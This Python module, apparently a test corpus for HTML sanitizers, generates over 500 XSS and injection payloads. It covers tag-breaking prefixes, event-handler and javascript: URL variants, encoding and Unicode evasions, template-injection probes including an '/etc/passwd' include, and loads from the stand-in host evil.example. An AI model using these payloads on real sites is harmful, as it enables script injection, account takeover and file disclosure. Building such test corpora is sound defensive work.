"""More than 500 ways to make a page do what a report says: each would call ``fired``, load from elsewhere or change the page."""

from __future__ import annotations

from itertools import chain, product

CALL = "fired()"
ELSEWHERE = "evil.example"
BREAKS = (
    "",
    '">',
    "'>",
    "`>",
    "--></q>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
)
ELEMENTS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script href=data:text/javascript,{call} /></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<iframe src=javascript:parent.{call}>",
    "<object data=//{host}/x.swf>",
    "<embed src=//{host}/x>",
    "<link rel=stylesheet href=//{host}/x.css>",
    "<base href=//{host}/>",
    "<meta http-equiv=refresh content=0;url=//{host}/>",
    "<form action=//{host}/><button autofocus>x",
    "<style>@import '//{host}/x.css';</style>",
    "<template shadowrootmode=open><script>{call}</script></template>",
    "<video><source onerror={call}></video>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<xmp><p title='</xmp><img src=x onerror={call}>'>",
    "<div hx-get=//{host}/x hx-trigger=load>",
    "<div hx-on:load={call} data-hx-get=/login hx-trigger=load>",
    "<a href=javascript:{call} autofocus onfocus={call}>",
)
EVENTS = (
    "onabort", "onafterprint", "onanimationend", "onanimationiteration", "onanimationstart", "onauxclick",
    "onbeforecopy", "onbeforecut", "onbeforeinput", "onbeforematch", "onbeforepaste", "onbeforetoggle",
    "onbeforeunload", "onbegin", "onblur", "oncanplay", "oncanplaythrough", "onchange", "onclick", "onclose",
    "oncontentvisibilityautostatechange", "oncontextmenu", "oncopy", "oncuechange", "oncut", "ondblclick",
    "ondrag", "ondragend", "ondragenter", "ondragleave", "ondragover", "ondragstart", "ondrop",
    "ondurationchange", "onend", "onended", "onerror", "onfocus", "onfocusin", "onfocusout", "onformdata",
    "onfullscreenchange", "ongotpointercapture", "onhashchange", "oninput", "oninvalid", "onkeydown",
    "onkeypress", "onkeyup", "onload", "onloadeddata", "onloadedmetadata", "onloadstart",
    "onlostpointercapture", "onmessage", "onmousedown", "onmouseenter", "onmouseleave", "onmousemove",
    "onmouseout", "onmouseover", "onmouseup", "onmousewheel", "onpagehide", "onpageshow", "onpaste", "onpause",
    "onplay", "onplaying", "onpointercancel", "onpointerdown", "onpointerenter", "onpointerleave",
    "onpointermove", "onpointerout", "onpointerover", "onpointerrawupdate", "onpointerup", "onpopstate",
    "onprogress", "onratechange", "onrepeat", "onreset", "onresize", "onscroll", "onscrollend", "onscrollsnapchange",
    "onsearch", "onsecuritypolicyviolation", "onseeked", "onseeking", "onselect", "onselectionchange",
    "onselectstart", "onshow", "onslotchange", "onstalled", "onsubmit", "onsuspend", "ontimeupdate", "ontoggle",
    "ontouchend", "ontouchmove", "ontouchstart", "ontransitioncancel", "ontransitionend", "ontransitionrun",
    "ontransitionstart", "onunhandledrejection", "onunload", "onvolumechange", "onwaiting", "onwheel",
)  # fmt: skip
QUOTES = ('" {event}={call} autofocus x="', "' {event}={call} tabindex=0 x='")
ADDRESSES = (
    "javascript:{call}", "JaVaScRiPt:{call}", " javascript:{call}", "java\tscript:{call}", "java\nscript:{call}",
    "\x01javascript:{call}", "javascript&colon;{call}", "javascript&#58;{call}", "&#106;avascript:{call}",
    "data:text/html,<script>{call}</script>", "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+",
    "vbscript:{call}", "//{host}/x", "\\\\{host}\\x", "/\\{host}/x", "http:{host}", "blob:{call}",
    "view-source:javascript:{call}", "feed:javascript:{call}", "jar:javascript:{call}", "filesystem:{call}",
)  # fmt: skip
TEMPLATES = (
    "{{{{3*1234577}}}}", "{{{{config}}}}", "{{%- for x in [3*1234577] %}}{{{{x}}}}{{% endfor -%}}", "${{3*1234577}}", "#{{3*1234577}}",
    "<%= 3*1234577 %>", "{{{{''.__class__.__mro__}}}}", "{{{{request.app.state}}}}", "{{% include '/etc/passwd' %}}",
    "{{# {call} #}}", "[[3*1234577]]", "{{{{constructor.constructor('{call}')()}}}}", "%(call)s", "{{0.__class__}}",
)  # fmt: skip
LETTERS = (
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e", "<\u0000script>{call}</script>", "<scr\u0000ipt>{call}</script>",
    "\u202e<script>{call}</script>\u202c", "<\u200bimg src=x onerror={call}>", "<img\u2028src=x\u2029onerror={call}>",
    "<img/src=x/onerror={call}>", "<img\x0csrc=x\x0conerror={call}>", "<ſcript>{call}</ſcript>", "<ıframe onload={call}>",
    "%3Cscript%3E{call}%3C/script%3E", "&lt;script&gt;{call}&lt;/script&gt;", "&#60;img src=x onerror={call}&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e", "\\x3cscript>{call}</script>", "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "<SCRIPT>{call}</SCRIPT>", "<<script>script>{call}<</script>/script>",
    "<img src=x onerror={call}//", "<script>{call}", "<!--<img src=--><img src=x onerror={call}>", "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml version='1.0'?><x onload={call}/>", "<!DOCTYPE x [<!ENTITY y SYSTEM '//{host}/'>]>&y;", "</q></li></main><script>{call}</script>",
    "\u2066<a href='//{host}/'>\u2069", "e\u0301<b id=main>", "<form id=find><input name=id>", "<a id=fired name=fired>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    named = {"call": CALL, "host": ELSEWHERE}
    made = chain(
        (before + element.format(**named) for before, element in product(BREAKS, ELEMENTS)),
        (form.format(event=event, **named) for form, event in product(QUOTES, EVENTS)),
        (form.format(**named) for form in (*ADDRESSES, *TEMPLATES, *LETTERS)),
    )
    return list(dict.fromkeys(made))
